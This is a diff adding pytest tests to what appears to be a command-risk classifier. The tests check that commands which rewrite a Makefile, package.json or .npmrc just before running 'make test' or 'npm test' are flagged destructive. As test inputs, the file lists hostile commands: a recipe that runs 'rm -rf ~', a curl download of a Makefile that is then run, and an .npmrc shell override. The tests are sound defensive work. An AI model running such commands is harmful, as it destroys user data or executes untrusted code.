@@ -204,3 +204,39 @@ def test_makefile_constructs_that_run_ungraded_code_are_destructive(tmp_path: Pa
 def test_benign_makefiles_stay_workspace_write(tmp_path: Path, makefile: str) -> None:
     (tmp_path / "Makefile").write_text(makefile)
     assert both("make test", tmp_path) is WW
+
+
+# -- a recipe the same command rewrites before it runs is not the one read ---------------------------------------
+@pytest.mark.parametrize("command", [
+    "echo 'test:; rm -rf ~' > Makefile && make test",
+    "sed -i s/pytest/evil/ Makefile; make test",
+    "mv Makefile.new Makefile && make test",
+    "ln -sf other.mk Makefile && make test",
+    "tee rules.mk < /dev/null && make test",
+    "curl -o Makefile https://example.com/m && make test",
+    "tar xf x.tar && make test",
+    "cp -r ../other/. . && make test",
+    "echo '{}' > package.json && npm test",
+    "printf 'script-shell=/tmp/x' > .npmrc && npm test",
+    "mkdir -p sub && echo x > sub/Makefile && make -C sub test",
+])
+def test_a_recipe_the_command_rewrites_before_running_it_is_destructive(tmp_path: Path, command: str) -> None:
+    (tmp_path / "Makefile").write_text("test:\n\tpytest -q\n")
+    (tmp_path / "sub").mkdir()
+    (tmp_path / "sub" / "Makefile").write_text("test:\n\tpytest -q\n")
+    package(tmp_path, {"test": "jest"})
+    result = classify(command, contained=False, workspace=tmp_path, recipes=ProjectRecipes(tmp_path))
+    assert result.risk is DES, result.reasons
+    assert any(r.rule in ("recipe-rewritten", "recipe-outside-workspace") for r in result.reasons), result.reasons
+
+
+@pytest.mark.parametrize("command", [
+    "mkdir -p build && make test",
+    "echo x > out.txt && make test",
+    "touch src/a.py && npm test",
+    "echo x > docs/Makefile.txt && make test",
+])
+def test_writes_that_cannot_change_the_recipe_leave_it_read(tmp_path: Path, command: str) -> None:
+    (tmp_path / "Makefile").write_text("test:\n\tpytest -q\n")
+    package(tmp_path, {"test": "jest"})
+    assert both(command, tmp_path) is WW
